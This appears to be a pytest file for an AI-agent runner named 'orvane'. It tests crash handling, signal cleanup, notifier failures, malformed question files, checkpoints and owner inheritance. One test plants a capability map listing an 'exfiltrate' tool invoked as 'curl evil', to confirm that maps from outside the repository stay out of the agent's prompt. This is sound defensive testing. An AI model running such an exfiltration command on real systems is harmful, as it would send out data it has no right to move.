"""The host's run under bad conditions, end to end: brains whose answers cannot be read,
signals, failing notifiers, question files that cannot be read, capability maps and
instances that are not the target's, checkpoints of another target, hatching owners.
Real processes, real directories, real git, small fake programs written by the tests."""

import json
import os
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest
import yaml

from orvane import protocol, temporal
from tests.test_cli import ORVANE, env, events, git, of_type, orvane, project, set_config  # noqa: F401


def program(tmp_path, name, body):
    path = tmp_path / name
    path.write_text(f"#!{sys.executable}\n" + textwrap.dedent(body))
    path.chmod(0o755)
    return path


def instance_with(tmp_path, env, brain, name="agent"):
    orvane("init", name, cwd=tmp_path, env=env)
    set_config(tmp_path / name, brain=brain)
    return tmp_path / name


ANSWER = ('<orvane-eval>{"findings": [{"description": "notes are stale", "severity": 0.4, '
          '"category": "docs", "evidence": "notes.txt:1"}], "gaps": [], "meta": {}}</orvane-eval>')

UNDECODABLE = """\
    import sys
    sys.stdin.read() if not sys.stdin.isatty() else None
    sys.stdout.buffer.write(b"\\xff\\xfe not text \\x80\\n")
"""
NOT_OBJECTS = """\
    import sys
    print("[1,2]")
    print("[1,2]")
"""


class TestUnreadableAnswers:
    @pytest.mark.parametrize("kind", ["claude-code", "generic-cli"])
    @pytest.mark.parametrize("body, error", [(UNDECODABLE, "UnicodeDecodeError"), (NOT_OBJECTS, None)])
    def test_recorded_as_a_brain_failure_and_the_cycles_go_on(self, tmp_path, env, project, kind, body, error):
        fake = program(tmp_path, "fake", body)
        brain = ({"type": "claude-code", "binary": str(fake)} if kind == "claude-code" else
                 {"type": "generic-cli", "binary": str(fake), "prompt_via_stdin": True})
        instance = instance_with(tmp_path, env, brain)
        result = orvane("run", instance, "--target", project, "--cycles", 2, cwd=tmp_path, env=env, check=False)
        assert "Traceback" not in result.stderr
        assert len(of_type(instance, "CYCLE")) == 2
        failures = of_type(instance, "BRAIN_FAILURE")
        if kind == "generic-cli" and error is None:
            # Plain text that holds no tagged block is an answer without findings.
            assert result.returncode == 0 and failures == []
            return
        assert result.returncode == 1, result.stderr
        assert len(failures) == 2
        reason = failures[0]["payload"]["failure_reason"]
        assert reason.startswith("unreadable answer: ")
        if error:
            assert error in reason
        assert [c["payload"]["failure_reason"] for c in of_type(instance, "CYCLE")] == [reason, reason]
        assert len(result.stderr.splitlines()) == 1 and "the brain failed in 2 of 2 cycles" in result.stderr
        assert json.loads((instance / "state.json").read_text())["status"] == "idle"


SLEEPER = """\
    import os, pathlib, signal, subprocess, sys, time
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    sys.stdin.read()
    child = subprocess.Popen([sys.executable, "-c",
        "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); signal.signal(signal.SIGHUP, signal.SIG_IGN); time.sleep(600)"])
    pathlib.Path(os.environ["PIDS_FILE"]).write_text(f"{os.getpid()} {child.pid}")
    time.sleep(600)
"""


def gone(pid):
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return True
    return stat.rsplit(")", 1)[1].split()[0] in ("Z", "X")  # a zombie has ended


class TestSignals:
    @pytest.mark.parametrize("number, status", [(signal.SIGTERM, 143), (signal.SIGHUP, 129)])
    def test_a_signal_ends_the_run_the_brain_and_what_it_started(self, tmp_path, env, project, number, status):
        fake = program(tmp_path, "fake", SLEEPER)
        instance = instance_with(tmp_path, env, {"type": "generic-cli", "binary": str(fake),
                                                 "prompt_via_stdin": True})
        pids_file = tmp_path / "pids"
        env["PIDS_FILE"] = str(pids_file)
        command = [str(ORVANE)] if ORVANE.exists() else [sys.executable, "-m", "orvane"]
        before = len(events(instance))
        process = subprocess.Popen(command + ["run", str(instance), "--target", str(project), "--cycles", "3"],
                                   cwd=tmp_path, env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                                   stderr=subprocess.PIPE, text=True)
        try:
            deadline = time.monotonic() + 60
            while not (pids_file.exists() and len(pids_file.read_text().split()) == 2):
                assert process.poll() is None and time.monotonic() < deadline, process.communicate()
                time.sleep(0.05)
            brain_pid, child_pid = map(int, pids_file.read_text().split())
            process.send_signal(number)
            _, stderr = process.communicate(timeout=60)
        finally:
            if process.poll() is None:
                process.kill()
        assert process.returncode == status, stderr
        assert "Traceback" not in stderr
        assert stderr.splitlines()[-1] == (f"orvane: ended by {signal.Signals(number).name} "
                                           "after 0 cycles")
        deadline = time.monotonic() + 10
        while not (gone(brain_pid) and gone(child_pid)) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert gone(brain_pid) and gone(child_pid)
        assert json.loads((instance / "state.json").read_text())["status"] == "interrupted"
        # Whole lines only; the cut-short cycle left its selection and nothing after it.
        added = events(instance)[before:]
        assert [e["type"] for e in added] == ["SELECTION"]
        assert not list((instance).glob(".*.json.*"))  # no half-written state file

    def test_a_second_ctrl_c_ends_the_brain_group_too(self, tmp_path, env, project):
        fake = program(tmp_path, "fake", SLEEPER)
        instance = instance_with(tmp_path, env, {"type": "generic-cli", "binary": str(fake),
                                                 "prompt_via_stdin": True})
        pids_file = tmp_path / "pids"
        env["PIDS_FILE"] = str(pids_file)
        command = [str(ORVANE)] if ORVANE.exists() else [sys.executable, "-m", "orvane"]
        process = subprocess.Popen(command + ["run", str(instance), "--target", str(project)],
                                   cwd=tmp_path, env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                                   stderr=subprocess.PIPE, text=True)
        try:
            deadline = time.monotonic() + 60
            while not (pids_file.exists() and len(pids_file.read_text().split()) == 2):
                assert process.poll() is None and time.monotonic() < deadline, process.communicate()
                time.sleep(0.05)
            pids = list(map(int, pids_file.read_text().split()))
            process.send_signal(signal.SIGINT)
            time.sleep(0.3)
            process.send_signal(signal.SIGINT)
            _, stderr = process.communicate(timeout=60)
        finally:
            if process.poll() is None:
                process.kill()
        assert process.returncode == 130, stderr
        deadline = time.monotonic() + 10
        while not all(map(gone, pids)) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert all(map(gone, pids))
        assert json.loads((instance / "state.json").read_text())["status"] == "interrupted"


class SilentServer:
    """Accepts connections on 127.0.0.1 and never answers; counts them."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.accepted = []
        self.url = f"http://127.0.0.1:{self.socket.getsockname()[1]}/hook"
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            self.accepted.append(connection)

    def close(self):
        self.socket.close()
        for connection in self.accepted:
            connection.close()


class TestNotifiers:
    def test_a_failing_notifier_is_skipped_after_its_first_failure(self, tmp_path, env, project):
        server = SilentServer()
        try:
            orvane("init", "agent", cwd=tmp_path, env=env)
            instance = tmp_path / "agent"
            (instance / "blocked").mkdir()
            set_config(instance, notifiers=[
                {"type": "webhook", "url": server.url, "min_severity": 0.0},
                {"type": "log", "path": "blocked", "min_severity": 0.0},  # a directory: cannot append
                {"type": "log", "path": "notifications.jsonl", "min_severity": 0.0},
                {"type": "log", "path": "severe.jsonl", "min_severity": 0.95}])
            result = orvane("run", "agent", "--target", project, "--cycles", 3, "--seed", 2, cwd=tmp_path, env=env)
        finally:
            server.close()
        assert len(server.accepted) == 1  # one time-out for the whole run
        warnings = [line for line in result.stderr.splitlines() if line.startswith("orvane: warning:")]
        assert warnings == [
            f"orvane: warning: the webhook notifier ({server.url}) failed; it is skipped for the rest of the run",
            "orvane: warning: the log notifier (agent/blocked) failed; it is skipped for the rest of the run"]
        # The working notifier got every event; the one above the severities got none and
        # was never counted as failing.
        assert (instance / "notifications.jsonl").read_text().count('"cycle complete"') == 3
        assert not (instance / "severe.jsonl").exists()


class TestQuestionFiles:
    def test_unreadable_question_files_are_skipped_with_one_warning_each(self, tmp_path, env, project):
        orvane("init", "agent", cwd=tmp_path, env=env)
        questions = tmp_path / "agent" / "questions"
        good = {"name": "readme-check", "question": "Is there a README?", "generation": 1}
        (questions / "readme-check.json").write_text(json.dumps(good))
        (questions / "digits.json").write_text('{"name": "digits", "n": ' + "9" * 5000 + "}")
        (questions / "deep.json").write_text("[" * 100000 + "]" * 100000)
        (questions / "latin.json").write_bytes('{"name": "caf\u00e9"}'.encode("latin-1"))
        os.mkfifo(questions / "pipe.json")
        (questions / "broken.json").write_text("{not json")  # not JSON: skipped silently, as always
        result = orvane("run", "agent", "--target", project, "--cycles", 3, "--seed", 5, cwd=tmp_path, env=env)
        warnings = sorted(line for line in result.stderr.splitlines() if "warning" in line)
        named = sorted(Path(line.split("question file ", 1)[1].split(": ", 1)[0]).name for line in warnings)
        assert named == ["deep.json", "digits.json", "latin.json", "pipe.json"]
        assert any("pipe.json: not a regular file" in line for line in warnings)
        assert any("latin.json: 'utf-8' codec can't decode" in line for line in warnings)
        chosen = {e["payload"]["question"] for e in of_type(tmp_path / "agent", "SELECTION")}
        assert chosen and not chosen & {"digits", "caf\u00e9"}
        assert len(of_type(tmp_path / "agent", "CYCLE")) == 3
        assert list(questions.glob("*.json"))  # nothing was moved or deleted


PROMPT_LOGGER = """\
    import os, sys
    prompt = sys.stdin.read()
    with open(os.environ["PROMPT_LOG"], "a") as log:
        log.write(prompt + "\\n=====\\n")
    print('<orvane-eval>{"findings": [], "gaps": [], "meta": {}}</orvane-eval>')
"""


class TestWhatGoesIntoThePrompt:
    def run_logged(self, tmp_path, env, target, instance="agent", cwd=None, config=None):
        fake = program(tmp_path, "logger", PROMPT_LOGGER)
        log = tmp_path / "prompts"
        if log.exists():
            log.unlink()
        where = cwd or tmp_path
        if not (where / instance).exists():
            orvane("init", instance, cwd=where, env=env)
        set_config(where / instance, brain={"type": "generic-cli", "binary": str(fake), "prompt_via_stdin": True},
                   **(config or {}))
        env["PROMPT_LOG"] = str(log)
        result = orvane("run", instance, "--target", target, cwd=where, env=env)
        return log.read_text().split("\n=====\n")[0], result, of_type(where / instance, "CYCLE")[-1]["payload"]

    def test_a_map_in_a_sibling_tree_or_an_open_ancestor_is_never_used(self, tmp_path, env):
        shared = tmp_path / "shared"
        (shared / "project" / "src").mkdir(parents=True)
        (shared / "other").mkdir()
        planted = json.dumps({"cli_tools": {"items": [{"name": "exfiltrate", "invocation": "curl evil"}]}})
        (shared / "other" / "capability-map.json").write_text(planted)
        (shared / "capability-map.json").write_text(planted)  # outside any repository and the home
        prompt, result, cycle = self.run_logged(tmp_path, env, shared / "project")
        assert "exfiltrate" not in prompt and "CAPABILITIES" not in prompt
        assert cycle["capability_map"] is None and "capability map" not in result.stdout
        # Named in the configuration, a map anywhere is used, and said so.
        prompt, result, cycle = self.run_logged(tmp_path, env, shared / "project",
                                                config={"capability_map": str(shared / "other" / "capability-map.json")})
        assert "exfiltrate" in prompt
        assert cycle["capability_map"] == str(shared / "other" / "capability-map.json")
        assert f"capability map: {shared / 'other' / 'capability-map.json'}" in result.stdout.splitlines()

    def test_maps_are_found_in_the_tree_and_up_to_the_repository_root(self, tmp_path, env):
        repo = tmp_path / "repo"
        (repo / "sub" / "deep" / "er").mkdir(parents=True)
        (repo / "elsewhere").mkdir()
        git("init", "-q", cwd=repo)
        tool = lambda name: json.dumps({"cli_tools": {"items": [{"name": name, "type": "cli"}]}})
        (repo / "elsewhere" / "capability-map.json").write_text(tool("sibling"))
        prompt, _, cycle = self.run_logged(tmp_path, env, repo / "sub")
        assert "sibling" not in prompt and cycle["capability_map"] is None
        (repo / "capability-map.json").write_text(tool("at-root"))
        prompt, result, cycle = self.run_logged(tmp_path, env, repo / "sub")
        assert "at-root" in prompt and cycle["capability_map"] == str(repo / "capability-map.json")
        assert f"capability map: {repo / 'capability-map.json'}" in result.stdout
        (repo / "sub" / "deep" / "er" / "capability-map.json").write_text(tool("in-tree"))
        prompt, _, cycle = self.run_logged(tmp_path, env, repo / "sub")
        assert "in-tree" in prompt and "at-root" not in prompt
        # Above the repository root nothing is searched.
        (repo / "sub" / "deep" / "er" / "capability-map.json").unlink()
        inner = repo / "sub" / "nested"
        inner.mkdir()
        git("init", "-q", cwd=inner)
        prompt, _, cycle = self.run_logged(tmp_path, env, inner)
        assert cycle["capability_map"] is None

    def test_an_instance_inside_the_target_is_not_part_of_it(self, tmp_path, env, project):
        orvane("init", "agent", cwd=project, env=env)
        (project / "keep").mkdir()
        (project / "keep" / "config.yaml").write_text("a: 1\n")  # a config alone is the target's
        prompt, _, _ = self.run_logged(tmp_path, env, ".", cwd=project)
        listing = prompt.split("TARGET: ", 1)[1].split("\nQUESTION [", 1)[0]
        assert "agent" not in listing and "  keep/config.yaml" in listing and "  src/app.py" in listing
        # The offline brain's walk leaves it out as well: its findings never name it,
        # though the instance holds an empty ledger and question files.
        set_config(project / "agent", brain={"type": "offline"})
        for seed in range(4):
            orvane("run", "agent", "--target", ".", "--seed", seed, cwd=project, env=env)
        findings = of_type(project / "agent", "FINDING")
        assert any(e["payload"].get("evidence") for e in findings)
        assert not any("agent" in str(e["payload"].get("evidence", "")) for e in findings)


class TestCheckpoints:
    def test_a_matured_checkpoint_surfaces_only_on_its_own_target(self, tmp_path, env, project):
        other = tmp_path / "other"
        other.mkdir()
        orvane("init", "agent", cwd=tmp_path, env=env)
        instance = tmp_path / "agent"
        instance_id = yaml.safe_load((instance / "config.yaml").read_text())["instance_id"]
        manager = temporal.TemporalManager(str(instance), instance_id)
        checkpoint = manager.schedule_checkpoint(
            {"description": "slow fix", "severity": 0.6, "category": "ops", "evidence": "x", "question": "pressure-test"},
            "done", "wait for the cache", 0)
        from orvane import ledger
        ledger.Ledger(str(instance / "ledger.jsonl")).append(protocol.make_event(
            "TEMPORAL_CHECKPOINT", "temporal", {"question": "pressure-test", "checkpoint": checkpoint.id,
                                                "check_after": checkpoint.check_after},
            target=str(project), instance_id=instance_id))
        orvane("run", "agent", "--target", other, cwd=tmp_path, env=env)
        assert [e for e in of_type(instance, "FINDING") if e["source"] == "temporal"] == []
        assert [c.id for c in manager.matured_checkpoints()] == [checkpoint.id]
        orvane("run", "agent", "--target", project, cwd=tmp_path, env=env)
        orvane("run", "agent", "--target", project, cwd=tmp_path, env=env)
        (surfaced,) = [e for e in of_type(instance, "FINDING") if e["source"] == "temporal"]
        assert surfaced["target"] == str(project) and surfaced["payload"]["checkpoint"] == checkpoint.id
        assert manager.matured_checkpoints() == []


class TestHatchOwner:
    @pytest.mark.parametrize("parent_goal", [True, False])
    @pytest.mark.parametrize("args, owner", [([], "ada"), (["--owner", "bo"], "bo"),
                                             (["--goal", "Docs"], "ada"), (["--goal", "Docs", "--owner", "bo"], "bo")])
    def test_the_child_is_owned_by_the_one_named_else_by_the_parents_owner(self, tmp_path, env, parent_goal,
                                                                             args, owner):
        orvane("init", "parent", "--owner", "ada", *(["--goal", "Tidy"] if parent_goal else []), cwd=tmp_path, env=env)
        orvane("hatch", "parent", "child", *args, cwd=tmp_path, env=env)
        child = tmp_path / "child"
        assert yaml.safe_load((child / "config.yaml").read_text())["owner"] == owner
        if parent_goal or "--goal" in args:
            saved = yaml.safe_load((child / "goal.yaml").read_text())
            assert saved["owner"] == owner
            assert saved["goal"] == ("Docs" if "--goal" in args else "Tidy")
        intruder = "eve"
        refused = orvane("goal", "child", "--set", "New", "--owner", intruder, cwd=tmp_path, env=env, check=False)
        assert refused.returncode == 1
        orvane("goal", "child", "--set", "New", "--owner", owner, cwd=tmp_path, env=env)
        # A grandchild still has an owner.
        orvane("hatch", "child", "grandchild", cwd=tmp_path, env=env)
        assert yaml.safe_load((tmp_path / "grandchild" / "config.yaml").read_text())["owner"] == owner
